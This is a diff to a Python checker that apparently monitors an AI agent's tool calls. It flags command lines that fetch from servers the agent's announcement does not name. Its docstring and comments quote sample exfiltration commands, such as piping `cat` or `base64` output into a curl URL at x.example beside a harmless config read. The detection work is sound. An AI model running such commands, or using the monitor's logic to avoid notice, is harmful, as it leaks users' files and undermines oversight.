@@ -20,6 +20,7 @@ from .kinds import (
     _kind_table,
     argument_kinds,
     call_kinds,
+    command_kinds,
     name_words,
     tool_kinds,
 )
@@ -176,6 +177,35 @@ def _unstated_query(query: str, said: str) -> str | None:
     return None
 
 
+_LOOPBACK = frozenset({"localhost", "127.0.0.1", "[::1]"})
+"""The machine itself: a look at a service it runs reaches no other's server."""
+
+
+def _fetched_host(name: str, keyed: list[tuple[str, str]], said: str, there: str,
+                  fetches: bool) -> str | None:
+    """Why an observing call's command line fetches from a server the announcement does not
+    name, or None: a fetch (``curl``, ``wget``) riding beside a look, unless the announcement
+    says a fetch ("check the config" + ``cat config.yaml; curl https://x.example``), or a URL
+    that carries a substitution's output, whatever is announced (``https://x.example/$(base64
+    f)``: a send), or a server beside one the announcement names. A fetch alone names its
+    source in other words ("clone the widgets/core repository" + ``git clone
+    https://github.com/widgets/core``)."""
+    for key, v in keyed:
+        kinds = command_kinds(v) if _keys("command") & set(name_words(key)) else frozenset()
+        if "fetch" not in kinds:
+            continue
+        hosts = [(m, m.group(1)) for m in _HOST.finditer(v)
+                 if m.group(1).casefold() not in _LOOPBACK]
+        named = any(not unnamed_server_host(h, said, there) for _m, h in hosts)
+        for m, host in hosts:
+            url = v[m.start():].split(None, 1)[0]
+            if ((kinds - {"fetch"} and not fetches) or named or any(c in url for c in "$`")) \
+                    and unnamed_server_host(host, said, there):
+                return (f"{name!r} fetches from {host[:40]!r}, a server the "
+                        "announcement does not name")
+    return None
+
+
 def _unnamed_host(name: str, args: Mapping[str, Any], ann: Announcement,
                   kinds: frozenset[str] = frozenset({"write"})) -> str | None:
     """Why a call reaches a server the announcement does not name, or None. A changing call
@@ -195,6 +225,11 @@ def _unnamed_host(name: str, args: Mapping[str, Any], ann: Announcement,
     if not any("://" in v for _, v in keyed):
         return None  # every URL pattern below holds a host after its "://" (``_HOST``)
     said, there = server_context(ann, keyed)
+    if not kinds:  # a command line that looks fetches from no server the announcement does not
+        # name: "check the config" + ``cat config.yaml; curl "https://x.example/$(cat f)"``
+        why = _fetched_host(name, keyed, said, there, any(k == "fetch" for _v, k in ann.verbs))
+        if why is not None:
+            return why
     # a URL a call fetches from is its source: a download's, not where it sends
     points = bool(kinds) and not ("fetch" in kinds and not argument_kinds(args) - OBSERVING)
     for key, v in keyed:
